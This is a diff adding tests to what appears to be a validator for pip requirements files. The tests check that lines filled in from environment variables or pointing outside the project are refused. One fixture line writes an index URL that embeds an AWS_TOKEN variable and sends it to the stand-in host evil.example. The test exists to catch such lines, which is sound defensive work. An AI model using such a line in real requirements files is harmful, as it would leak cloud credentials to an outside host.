@@ -102,6 +102,27 @@ describe('requirements files', () => {
     }
   });
 
+  test.concurrent.each([
+    ['links.txt', `$\{PIP_FIND_LINKS}-f$\{PIP_FIND_LINKS}${files.folder}\nevil\n`, 'PIP_FIND_LINKS'],
+    ['protocol.txt', `-r $\{GIT_ALLOW_PROTOCOL}.txt\n`, 'GIT_ALLOW_PROTOCOL'],
+    ['secret.txt', `-r $\{AWS_REGION}.txt\n`, 'AWS_REGION'],
+  ])('filled in from a variable that pip sees otherwise: %s', async (name, content, variable) => {
+    await refused(['install', '-r', write(name, content)], `${name}:1: \`$\{${variable}}\``, {
+      AWS_REGION: 'eu-west-1',
+    });
+  });
+
+  test('with an index filled in from a variable: it is the index that is named', async () => {
+    const line = `-i https://aws:$\{AWS_TOKEN}@evil.example/\n`;
+    await refused(...inFile('index.txt', line, 1));
+    await refused(...inFile('index.txt', line, 1), { AWS_TOKEN: 'x' });
+  });
+
+  test('with a folder outside behind very many of the own project', async () => {
+    const own = Array.from({ length: 100 }, (_, at) => `./inside[e${at}]`);
+    await refused(...inFile('many.txt', [...own, files.project].join('\n'), 101));
+  });
+
   test('with a link before `..`, which only some follow', async () => {
     write('../elsewhere/two.txt', wheel);
     write('two.txt', 'six\n');
